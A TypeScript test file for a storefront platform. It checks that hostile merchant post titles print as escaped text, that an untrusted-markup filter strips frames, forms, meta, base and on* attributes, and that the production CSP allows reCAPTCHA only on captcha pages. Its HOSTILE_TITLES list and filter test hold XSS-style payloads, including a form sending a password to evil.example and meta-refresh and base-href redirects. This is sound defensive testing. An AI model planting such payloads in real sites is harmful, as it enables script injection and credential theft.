/// <reference types="vite/client" />
/**
 * Untrusted text stays text in any template (issue 29): a developer-platform template prints
 * `{title}` as Squarespace's do, and merchant titles holding markup come out as text (the engine's
 * escaping mode, src/storefront/developer-platform/escaping.ts); whatever markup reaches a page
 * from anything but trusted code loses its frames, objects, embeds, meta, base, link and form
 * elements and its `srcdoc`/`on*` attributes (src/storefront/trusted-markup.ts); and the production
 * CSP allows reCAPTCHA's script paths, never its hosts, only on a page with a captcha, never on /config.
 */
import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it } from 'vitest';
import { demoSite } from '../../src/site/demo';
import { mapHost, publishSite } from '../../src/site/store';
import { keepTrustedText, markTrusted } from '../../src/storefront/trusted-markup';
import { PRODUCTION_VARS, Visitor } from '../worker/visitor';

const FIXTURE = import.meta.glob('../fixtures/developer-platform/**/*', {
  query: '?raw',
  import: 'default',
  eager: true,
}) as Record<string, string>;
const PREFIX = '../fixtures/developer-platform/';

/** Post titles a content editor could write, each trying to put an element or a handler on the page. */
const HOSTILE_TITLES = [
  '<iframe srcdoc="<script src=/x.js></script>">',
  '<img src=x onerror="window.__pwned=1">',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="import" href="/x.html">',
  '<object data="/x.swf"></object>',
  '<embed src="/x.swf">',
];

/** The template's own markup: trusted, so it stays. */
const TEMPLATE_HEAD =
  '<meta name="viewport" content="width=device-width"><link rel="preconnect" href="https://fonts.example">';
const DATA_BLOCK = '<script type="application/json" id="fixture-posts">{items|json}</script>';

function fixtureTheme(): Record<string, string> {
  const files: Record<string, string> = Object.fromEntries(
    Object.entries(FIXTURE).map(([path, text]) => [path.slice(PREFIX.length), text]),
  );
  files['styles/compiled.css'] = '.fixture-main{max-width:60rem}';
  files['header.region'] = (files['header.region'] as string).replace(
    '{squarespace-headers}',
    `{squarespace-headers}${TEMPLATE_HEAD}`,
  );
  files['collections/blog.list'] = `${files['collections/blog.list'] as string}\n${DATA_BLOCK}`;
  files['collections/blog.item'] =
    `${files['collections/blog.item'] as string}\n<p class="fixture-age">{item.addedOn|timesince}</p><p class="fixture-json">{item.title|json}</p>`;
  return files;
}

/** Every element and attribute of a page, as a browser would build them. */
async function elementsOf(html: string): Promise<{ tag: string; attributes: [string, string][] }[]> {
  const found: { tag: string; attributes: [string, string][] }[] = [];
  await new HTMLRewriter()
    .on('*', {
      element: (element) =>
        void found.push({ tag: element.tagName, attributes: [...element.attributes] as [string, string][] }),
    })
    .transform(new Response(html))
    .text();
  return found;
}

/** Nothing on the page that a hostile title could have added. */
async function expectNoInjectedElements(html: string, where: string): Promise<void> {
  const elements = await elementsOf(html);
  const attribute = (e: { attributes: [string, string][] }, name: string) =>
    e.attributes.find(([n]) => n === name)?.[1];
  expect(
    elements.filter((e) => ['iframe', 'object', 'embed', 'frame', 'base'].includes(e.tag)).map((e) => e.tag),
    where,
  ).toEqual([]);
  expect(
    elements.filter((e) => e.tag === 'meta' && attribute(e, 'http-equiv') !== undefined),
    where,
  ).toEqual([]);
  expect(
    elements.filter((e) => e.tag === 'link' && attribute(e, 'rel') === 'import'),
    where,
  ).toEqual([]);
  expect(
    elements.filter((e) => e.tag === 'form' && (attribute(e, 'action') ?? '').includes('evil')),
    where,
  ).toEqual([]);
  expect(
    elements
      .flatMap((e) => e.attributes.map(([name]) => name))
      .filter((name) => name === 'srcdoc' || name.startsWith('on')),
    where,
  ).toEqual([]);
  expect(
    elements.filter((e) => e.tag === 'img' && attribute(e, 'src') === 'x'),
    where,
  ).toEqual([]);
}

const HOST = 'hostile-titles.template.test';
const demo = demoSite();
const posts = demo.items.filter((item) => item.collectionId === 'c-blog');

describe('a developer-platform template printing merchant titles', () => {
  beforeAll(async () => {
    const site = demoSite();
    site.website.id = 'hostile-titles';
    site.theme = fixtureTheme();
    const blog = site.items.filter((item) => item.collectionId === 'c-blog');
    blog.forEach((post, i) => {
      post.title = HOSTILE_TITLES[i % HOSTILE_TITLES.length] as string;
    });
    expect(await publishSite(env, site)).toHaveProperty('version');
    await mapHost(env.SITE_CONTENT, HOST, site.website.id);
  });

  it("prints each hostile title as text on the post page, in its neighbours' links and on the list: no element, no handler", async () => {
    expect(posts.length).toBeGreaterThanOrEqual(HOSTILE_TITLES.length);
    for (const [i, title] of HOSTILE_TITLES.entries()) {
      const post = posts[i];
      const res = await new Visitor(`http://${HOST}`).fetch(post?.fullUrl ?? '');
      expect(res.status).toBe(200);
      const html = await res.text();
      await expectNoInjectedElements(html, title);
      // As text: every character of the title escaped, so the browser shows what the merchant typed.
      const shown = title.replace(/[&<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
      expect(html, title).toContain(`<h1>${shown}</h1>`);
      // Rich text (sanitized on the way in) still prints as markup: `{body}` keeps its paragraphs.
      expect(html).toMatch(/<article class="fixture-post"><h1>[^<]*<\/h1><p>/);
    }
    const list = await (await new Visitor(`http://${HOST}`).fetch('/blog')).text();
    await expectNoInjectedElements(list, '/blog');
    expect(list).toContain('&#60;iframe srcdoc=&#34;&#60;script src=/x.js&#62;&#60;/script&#62;&#34;&#62;');
  });

  it('prints the markup of widget formatters as it is: a product price, the age of a post', async () => {
    const product = await (await new Visitor(`http://${HOST}`).fetch('/shop/p/canvas-tote')).text();
    expect(product).toMatch(/<span class="fixture-price">\s*<div class="product-price">/);
    expect(product).not.toContain('&#60;span');
    const post = await (await new Visitor(`http://${HOST}`).fetch(posts[0]?.fullUrl ?? '')).text();
    expect(post).toMatch(/<p class="fixture-age"><span class="timesince" data-date="\d+">[^<]+<\/span><\/p>/);
    // JSON printed anywhere holds no markup: `<` and the like are \u escapes inside its strings.
    const json = /<p class="fixture-json">([^<]*)<\/p>/.exec(post)?.[1] ?? '';
    expect(JSON.parse(json)).toBe(HOSTILE_TITLES[0]);
  });

  it("keeps the template's own meta, link and JSON data block, whose titles cannot close the script or be markup", async () => {
    const html = await (await new Visitor(`http://${HOST}`).fetch('/blog')).text();
    expect(html).toContain(TEMPLATE_HEAD);
    expect(html).not.toContain('data-trust');
    const data = /<script type="application\/json" id="fixture-posts">([\s\S]*?)<\/script>/.exec(html)?.[1] ?? '';
    expect(data).not.toContain('<');
    const titles = (JSON.parse(data) as { title: string }[]).map((item) => item.title);
    expect(titles).toContain(HOSTILE_TITLES[0]);
  });
});

describe('the filter for untrusted markup', () => {
  it('removes guarded elements and srcdoc/on* attributes from anything not trusted, and keeps trusted code as written', async () => {
    const trusted =
      '<form action="/search"><input name="q"></form><meta name="viewport" content="x"><link rel="stylesheet" href="/a.css"><iframe src="/map"></iframe>';
    const untrusted =
      '<p onclick="x()" onMouseOver="y()">p</p><iframe srcdoc="<script>z()</script>"></iframe><object data="/o"><b>fallback</b></object><embed src="/e">' +
      '<frame src="/f"><meta http-equiv="refresh" content="0"><base href="https://evil.example/"><link rel="import" href="/i">' +
      '<form action="https://evil.example/"><input name="pw"></form><a href="/x" srcdoc="s">a</a>';
    const { html } = await keepTrustedText(markTrusted(trusted) + untrusted);
    expect(html).toBe(`${trusted}<p>p</p><b>fallback</b><input name="pw"><a href="/x">a</a>`);
  });

  it("keeps our own theme's forms, meta and link elements and the islands' forms", async () => {
    await publishSite(env, demo);
    const html = await (await new Visitor().fetch('/contact')).text();
    expect(html).toContain('<meta name="viewport"');
    expect(html).toContain('<link rel="icon"');
    expect(html).toMatch(/<meta property="og:title"/);
    expect(html).toContain('<form class="site-search"');
    // SiteForm's server render: the contact form and the newsletter sign-up.
    expect(html.match(/<form /g)?.length).toBeGreaterThanOrEqual(3);
    expect(html).not.toContain('data-trust');
  });
});

describe('the production CSP and the captcha', () => {
  const PROD_HOST = 'captcha-csp.prod.test';
  let address = 0;
  const visitor = () =>
    new Visitor(`https://${PROD_HOST}`, {
      vars: PRODUCTION_VARS,
      headers: { 'cf-connecting-ip': `203.0.113.${++address}` },
    });
  const GOOGLE = /https:\/\/www\.(google|gstatic)\.com(?=[\s;]|$)/;

  const TEMPLATE_HOST = 'captcha-csp-template.prod.test';
  const templateVisitor = () =>
    new Visitor(`https://${TEMPLATE_HOST}`, {
      vars: PRODUCTION_VARS,
      headers: { 'cf-connecting-ip': `203.0.113.${++address}` },
    });

  beforeAll(async () => {
    const site = demoSite();
    site.website.id = 'captcha-csp';
    await publishSite(env, site);
    await mapHost(env.SITE_CONTENT, PROD_HOST, site.website.id);
    const template = demoSite();
    template.website.id = 'captcha-csp-template';
    template.theme = fixtureTheme();
    await publishSite(env, template);
    await mapHost(env.SITE_CONTENT, TEMPLATE_HOST, template.website.id);
  });

  it('decides the same under an imported template: the contact page has the captcha paths, the blog none', async () => {
    const contact = await templateVisitor().fetch('/contact');
    expect(contact.status).toBe(200);
    expect(contact.headers.get('content-security-policy')).toContain(
      ' https://www.google.com/recaptcha/enterprise.js https://www.gstatic.com/recaptcha/releases/;',
    );
    await contact.arrayBuffer();
    const blog = await templateVisitor().fetch('/blog');
    expect(blog.headers.get('content-security-policy')).not.toContain('google');
    await blog.arrayBuffer();
  });

  it("allows only reCAPTCHA Enterprise's script paths and frames, and only on a page with a captcha form", async () => {
    const contact = await visitor().fetch('/contact');
    expect(contact.status).toBe(200);
    const csp = contact.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(
      /script-src [^;]* https:\/\/www\.google\.com\/recaptcha\/enterprise\.js https:\/\/www\.gstatic\.com\/recaptcha\/releases\/;/,
    );
    expect(csp).toMatch(
      /frame-src 'self' https:\/\/www\.google\.com\/recaptcha\/enterprise\/ https:\/\/recaptcha\.google\.com\/recaptcha\/enterprise\/;/,
    );
    expect(csp).toContain("connect-src 'self';");
    expect(csp).not.toMatch(GOOGLE);
    await contact.arrayBuffer();
  });

  it('allows no Google host or path on pages without a captcha, nor on /config', async () => {
    for (const path of ['/shop', '/shop/p/canvas-tote', '/blog', '/config', '/nope']) {
      const res = await visitor().fetch(path);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).not.toBe('');
      expect(csp, path).not.toContain('google');
      expect(csp, path).not.toContain('gstatic');
      await res.arrayBuffer();
    }
  });
});
